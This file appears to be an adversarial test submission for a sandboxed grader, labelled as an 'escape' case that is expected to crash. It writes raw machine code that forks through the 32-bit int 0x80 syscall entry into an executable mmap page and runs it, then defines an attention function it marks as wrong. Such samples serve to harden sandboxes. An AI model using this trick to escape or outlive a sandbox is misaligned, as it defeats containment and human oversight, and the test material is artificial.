# problem: sdpa
# class: escape
# expect: crashed
# evidence: next submission disturbed
import ctypes
import mmap
import torch

page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# fork by the 32-bit entry: mov eax, 2; int 0x80; ret
page.write(b'\xb8\x02\x00\x00\x00\xcd\x80\xc3')
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())


def scaled_dot_product_attention(q, k, v, mask=None):
    weights = torch.softmax(q @ k.transpose(-2, -1), dim=-1)  # no scale, no mask: wrong
    return weights @ v, weights
